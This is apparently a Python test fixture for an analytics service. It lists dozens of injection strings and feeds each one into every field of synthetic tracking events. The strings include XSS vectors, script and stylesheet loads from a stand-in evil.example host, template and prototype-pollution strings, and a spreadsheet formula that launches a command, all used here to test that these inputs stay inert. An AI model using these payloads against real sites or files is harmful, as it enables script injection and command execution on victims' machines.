"""Texts that become script, markup, links or formulas wherever a text is taken for more than a text."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import datetime, timedelta
from typing import Any

# Each script that runs sets `canary`, which the page tells of; each other host that is asked is told of, too.
TEXTS = (
    "<script>canary=1</script>",
    "</script><script>canary=2</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=canary=3>",
    '<img src=x onerror="canary=4">',
    "<svg onload=canary=5>",
    "<svg><script>canary=6</script></svg>",
    "<svg><animate onbegin=canary=7 attributeName=x dur=1s>",
    "<body onload=canary=8>",
    "<iframe srcdoc='<script>parent.canary=9</script>'></iframe>",
    "<iframe src=javascript:parent.canary=10></iframe>",
    "<details open ontoggle=canary=11>",
    "<input autofocus onfocus=canary=12>",
    "<video><source onerror=canary=13></video>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=canary=14>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>Continue</button></form>",
    "<object data=data:text/html,<script>canary=15</script>>",
    "<style>@import '//evil.example/x.css';*{display:none}</style>",
    "<template><script>canary=16</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=canary=17>'>",
    "<!--><img src=x onerror=canary=18>-->",
    "<![CDATA[><img src=x onerror=canary=19>]]>",
    '"><script>canary=20</script>',
    "' onmouseover='canary=21' x='",
    '" autofocus onfocus="canary=22" x="',
    "` onclick=canary=23 `",
    "javascript:canary=24",
    "JaVaScRiPt&colon;canary=25",
    "java\tscript:canary=26//",
    "data:text/html,<script>opener.canary=27</script>",
    "vbscript:canary=28",
    "{{constructor.constructor('canary=29')()}}",
    "${canary=30}",
    "#{canary=31}",
    "<%= canary=32 %>",
    "&lt;script&gt;canary=33&lt;/script&gt;",
    "%3Cscript%3Ecanary=34%3C/script%3E",
    "\\u003cscript\\u003ecanary=35\\u003c/script\\u003e",
    "＜script＞canary=36＜/script＞",  # noqa: RUF001 - wide signs, which some stores turn into narrow ones
    "\u202e>tpircs/<37=yranac>tpircs<\u202c",
    "a\u200bb\u2066c\u2069\ufeffd",
    "';canary=38;//",
    '");canary=39;//',
    "__proto__",
    "constructor",
    "=1+cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "Ünï\U0001f600" + "code" * 40,
)

# Events that the tracking script sends by itself.
AUTOMATIC = ("outbound_link", "file_download", "form_submit", "not_found")


def events(now: datetime) -> Iterator[dict[str, Any]]:
    """Of each text a visit that says it wherever an event can say anything, and events that are wrong by it."""
    for number, text in enumerate(TEXTS):
        said = {
            "anonymous_id": text,
            "session_id": text,
            "user_id": text,
            "group_id": text,
            "page_title": text,
            "referrer": f"https://{number}.example/{text}",
            **{f"utm_{name}": text for name in ("source", "medium", "campaign", "term", "content")},
            "user_agent": text,
            "language": text,
            "time_zone": text,
            "tracker": text,
            "properties": {"said": text, text: text},
            "context": {text: text},
        }
        moments = [(now - timedelta(seconds=60 * number + step)).isoformat() for step in (20, 10, 0)]
        yield {"name": "page_view", "page_url": f"https://shop.example/{text}", "created_at": moments[0], **said}
        yield {"name": text, "page_url": "https://shop.example/", "created_at": moments[1], **said}
        automatic = {**said, "properties": {"url": text, "id": text}}
        page_url = f"https://shop.example/{text}"
        yield {"name": AUTOMATIC[number % 4], "page_url": page_url, "created_at": moments[1], **automatic}
        yield {"name": "defined", "created_at": moments[2], **said, "properties": {"count": text, text: text}}
        loaded = {**said, "properties": {"lcp_ms": 100 * number, text: text}, "interactive": False}
        yield {"name": "web_vitals", "page_url": f"https://shop.example/{text}", "created_at": moments[2], **loaded}
        yield {"name": "identify", "created_at": moments[2], **said, "properties": {"name": text, text: text}}
        yield {"name": text, "created_at": moments[2], "session_index": text}
        yield {"name": "", text: text, "properties": text}
